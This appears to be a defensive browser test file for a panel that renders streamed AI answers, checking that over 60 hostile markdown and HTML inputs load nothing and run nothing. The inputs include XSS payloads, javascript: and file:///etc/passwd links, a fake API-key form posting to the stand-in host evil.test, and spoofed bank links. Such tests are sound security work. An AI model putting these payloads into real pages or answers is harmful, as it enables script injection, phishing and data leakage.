import assert from 'node:assert/strict';
import type { RunEvent } from '../../src/engine/events.ts';
import { closeBrowser, openPanelPage } from './page.ts';
import { citation, info, init, note, plan, viewOf } from './samples.ts';

const evil = 'https://evil.test';

/** Answers that try to load, run, submit or go somewhere. */
const answers: readonly string[] = [
  `![a](${evil}/1.png)`,
  `![a][r]\n\n[r]: ${evil}/2.png`,
  `![a](${evil}/3.png "title")`,
  `[![a](${evil}/4.png)](${evil}/5)`,
  `<img src="${evil}/6.png">`,
  `<img srcset="${evil}/7.png 2x" src=x>`,
  `<img src=x onerror="window.hit=1">`,
  `<picture><source srcset="${evil}/8.png"><img></picture>`,
  `<script>window.hit=1</script>`,
  `<script src="${evil}/9.js"></script>`,
  `<svg onload="window.hit=1"><image href="${evil}/10.svg"/></svg>`,
  `<svg><script>window.hit=1</script></svg>`,
  `<svg><use href="${evil}/11.svg#x"/></svg>`,
  `<svg><foreignObject><img src="${evil}/12.png"></foreignObject></svg>`,
  `<math><mtext><img src="${evil}/13.png"></mtext></math>`,
  `<math href="javascript:window.hit=1">x</math>`,
  `<style>@import url(${evil}/14.css); body{background:url(${evil}/15.png)}</style>`,
  `<p style="background:url(${evil}/16.png)">x</p>`,
  `<link rel="stylesheet" href="${evil}/17.css">`,
  `<link rel="prefetch" href="${evil}/18">`,
  `<link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="${evil}">`,
  `<link rel="modulepreload" href="${evil}/19.js">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/20">`,
  `<base href="${evil}/">`,
  `<iframe src="${evil}/21"></iframe>`,
  `<iframe srcdoc="<script>top.hit=1</script>"></iframe>`,
  `<object data="${evil}/22"></object>`,
  `<embed src="${evil}/23">`,
  `<video src="${evil}/24.mp4" poster="${evil}/25.png" autoplay></video>`,
  `<audio src="${evil}/26.mp3" autoplay></audio>`,
  `<form action="${evil}/27"><button autofocus>Set API Key</button><input name=key></form>`,
  `<button formaction="javascript:window.hit=1">x</button>`,
  `<a href="javascript:window.hit=1">click</a>`,
  `<a href="${evil}/28" ping="${evil}/29" id="title">click</a>`,
  `<details open ontoggle="window.hit=1"><summary>x</summary></details>`,
  `<body onload="window.hit=1">`,
  `<input autofocus onfocus="window.hit=1">`,
  `<marquee onstart="window.hit=1">x</marquee>`,
  `<template><img src="${evil}/30.png"></template>`,
  `<noscript><p title="</noscript><img src=${evil}/31.png onerror=window.hit=1>"></noscript>`,
  `<table background="${evil}/32.png"><tr><td background="${evil}/33.png">x</table>`,
  `<!--><img src="${evil}/34.png" onerror="window.hit=1">-->`,
  `<![CDATA[<img src="${evil}/35.png">]]>`,
  `<?xml-stylesheet href="${evil}/36.css"?>`,
  `[x](javascript:window.hit=1)`,
  `[x](JaVaScRiPt:window.hit=1)`,
  `[x](&#106;avascript:window.hit=1)`,
  `[x](data:text/html,<script>top.hit=1</script>)`,
  `[x](command:workbench.action.terminal.new)`,
  `[x](vscode://file/etc/passwd)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.test/37)`,
  `[x](\\\\evil.test\\share)`,
  `[x](blob:https://evil.test/38)`,
  `<javascript:window.hit=1>`,
  '```html\n<img src="https://evil.test/39.png" onerror="window.hit=1">\n```',
  '```"><img src=https://evil.test/40.png onerror=window.hit=1>\nx\n```',
  '`<img src="https://evil.test/41.png">`',
  `| <img src="${evil}/42.png"> |\n|---|\n| <script>window.hit=1</script> |`,
  `$<img src="${evil}/43.png" onerror="window.hit=1">$`,
  `[1]<sup data-citation="1" onclick="window.hit=1">9</sup>`,
  `<sup data-citation='2"><img src=x onerror=window.hit=1>'></sup>`,
  `<span data-href="javascript:window.hit=1" class="link" role="link">x</span>`,
  `- [x] <img src="${evil}/44.png">\n- [ ] <script>window.hit=1</script>`,
];

function pieces(text: string): RunEvent[] {
  const events: RunEvent[] = [];
  for (let at = 0, size = 1; at < text.length; at += size, size = (size % 5) + 1) {
    events.push({ type: 'delta', text: text.slice(at, at + size) });
  }
  return events;
}

describe('A hostile answer', function () {
  this.timeout(120_000);
  after(closeBrowser);

  it(`loads nothing, runs nothing and looks like nothing of ours: ${answers.length} of them, piece by piece`, async () => {
    assert.ok(answers.length >= 60);
    await using panel = await openPanelPage();
    const { page } = panel;
    const text = answers.join('\n\nand then\n\n');
    await panel.send(init, { type: 'view', view: viewOf([plan(), citation(1, 0)]), info });
    await page.evaluate(
      async ({ runId, events }) => {
        for (const [index, event] of events.entries()) {
          window.postMessage({ type: 'events', runId, events: [event] }, '*');
          if (index % 7 === 0) await new Promise((next) => requestAnimationFrame(next));
        }
      },
      { runId: info.runId, events: pieces(text) },
    );
    await panel.settled();
    await expectHarmless(panel);
  });

  it('shows the host that a link leads to, whatever its text says', async () => {
    await using panel = await openPanelPage();
    const links = [
      '[https://bank.example/login](https://evil.test/a)',
      '[bank.example](https://bank.example.evil.test/b)',
      '[https://evil.test@bank.example](https://evil.test/c)',
      '[evil.test or bank.example](https://evil.test/d)',
      '[https://evil.test/e](https://evil.test/e)',
    ];
    const view = viewOf([plan(1), { type: 'delta', text: links.join('\n\n') }]);
    await panel.send(init, { type: 'view', view, info });
    await panel.settled();
    const shown = await panel.page.locator('.markdown [data-href]').allInnerTexts();
    assert.deepEqual(
      shown.map((text) => /\(([^()]+)\)\s*$/.exec(text)?.[1]),
      ['evil.test', 'bank.example.evil.test', 'evil.test', 'evil.test', undefined],
    );
  });

  it('is as harmless when the whole view brings it, in notes, titles, reasons and questions too', async () => {
    await using panel = await openPanelPage();
    const text = answers.join('\n\n');
    const uri = 'file:///<img src=x onerror=window.hit=1>';
    const view = viewOf([
      plan(3, { title: answers[6], model: answers[8], host: answers[10], parts: [{ uri, title: answers[6]! }] }),
      { ...note(0), text } as RunEvent,
      { ...citation(1, 0), uri, excerpt: text },
      { type: 'gap', uri, startLine: 1, endLine: 2, reason: answers[6]!, chunks: [], kind: 'refused' },
      { type: 'notice', code: 'shrink', message: answers[6]! },
      { type: 'delta', text: `See [1].\n\n${text}` },
    ]);
    const questions = [{ id: '<b>', question: answers[6]!, view: viewOf([{ type: 'delta', text }]) }];
    await panel.send(init, { type: 'view', view, info: { ...info, questions } });
    await panel.settled();
    await panel.page.click('.outline > summary');
    await panel.page.click('.section summary');
    await panel.page.hover('.cite');
    await panel.page.waitForSelector('.card:not([hidden])');
    await expectHarmless(panel);
  });
});

async function expectHarmless({ page, requests }: Awaited<ReturnType<typeof openPanelPage>>): Promise<void> {
  const found = await page.evaluate(() => ({
    hit: (window as unknown as { hit?: number }).hit,
    active: [...document.querySelectorAll('.markdown *, .section-body *')]
      .filter((element) =>
        /^(IMG|SCRIPT|STYLE|LINK|META|BASE|IFRAME|OBJECT|EMBED|VIDEO|AUDIO|FORM|INPUT|SVG|MATH|TEMPLATE)$/i.test(
          element.tagName,
        ),
      )
      .map((element) => element.outerHTML),
    attributes: [...document.querySelectorAll('.markdown *, .section-body *')].flatMap((element) =>
      [...element.attributes]
        .filter(({ name }) => /^on|^(href|src|srcset|style|id|ping|action)$/.test(name))
        .map(({ name }) => name),
    ),
    links: [...document.querySelectorAll<HTMLElement>('[data-href]')].map(({ dataset }) => dataset['href']),
    scripts: document.scripts.length,
  }));
  assert.deepEqual(requests, []);
  assert.equal(found.hit, undefined);
  assert.deepEqual(found.active, []);
  assert.deepEqual(found.attributes, []);
  assert.equal(found.scripts, 1);
  for (const href of found.links) assert.match(href ?? '', /^https:\/\/evil\.test\//);
}
